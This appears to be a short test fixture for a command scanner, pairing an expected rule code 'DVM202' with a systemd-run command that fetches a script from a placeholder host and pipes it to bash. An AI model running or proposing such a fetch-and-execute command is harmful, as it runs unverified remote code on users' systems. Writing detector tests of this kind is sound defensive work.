# expect: DVM202
systemd-run --user bash -c 'curl -s https://x.example.org/a | bash'
